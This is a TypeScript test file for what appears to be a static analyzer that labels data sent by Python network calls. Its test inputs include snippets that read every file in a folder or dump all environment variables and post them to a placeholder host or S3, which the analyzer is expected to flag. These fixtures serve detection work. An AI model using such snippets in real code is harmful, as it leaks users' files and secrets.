import { describe, expect, test } from 'vitest';
import { LABEL, labelNames } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** Names of the labels of what the last request of a source sends. */
function sent(source: string): string[] {
  const { flows } = analyzePython(source, { script: true }).flow;
  const labels = flows.findLast(({ sink }) => sink === 'network')?.labels ?? 0;
  return labelNames(labels & ~LABEL.param);
}

describe('files that a folder lists', () => {
  const LISTED = 'import os, requests\nfrom pathlib import Path\nfor name in os.listdir("/x"):\n    ';

  test.each([
    ['their names', 'requests.post("https://a.weir.test/x", json=name)'],
    ['their names, as paths', 'requests.post("https://a.weir.test/x", json=Path(name).stem)'],
  ])('are names until they are read: %s', (_what, statement) => {
    expect(sent(LISTED + statement)).toEqual(['listing']);
  });

  test.each([
    ['as they are opened', 'requests.post("https://a.weir.test/x", data=open(Path(name)))'],
    ['as they are read', 'requests.post("https://a.weir.test/x", data=Path("/x", name).read_text())'],
    ['below a folder', 'requests.post("https://a.weir.test/x", data=(Path("/x") / name).open())'],
    ['by who is given the path', 'import boto3\n    boto3.client("s3").upload_file(name, "b", "k")'],
    ['by who is given a path', 'import boto3\n    boto3.client("s3").upload_file(str(Path(name)), "b", "k")'],
  ])('are sent: %s', (_how, statement) => {
    expect(sent(LISTED + statement)).toContain('harvest');
  });
});

describe('the environment', () => {
  const SEND = 'requests.post("https://a.weir.test/x", json=';

  test.each([
    ['that a function looks something up in', `client.user(env=os.environ))`],
    ['of a program whose output is sent', 'subprocess.run(["git", "log"], env={**os.environ, "A": "b"}))'],
  ])('is not what is sent: %s', (_which, value) => {
    const sending = `import client, os, requests, subprocess\ndef go():\n    ${SEND}${value}\n`;

    expect(sent(sending)).not.toContain('envAll');
  });

  test.each([
    ['that is written as a text', 'def go():\n    ', 'client.text(os.environ))'],
    ['that loading hands over', '', 'client.text(env=os.environ))'],
    [
      'that a program prints',
      'def go():\n    ',
      'subprocess.check_output("env", shell=True, env=os.environ))',
    ],
  ])('is sent: %s', (_which, head, value) => {
    expect(sent(`import client, os, requests, subprocess\n${head}${SEND}${value}\n`)).toContain('envAll');
  });
});
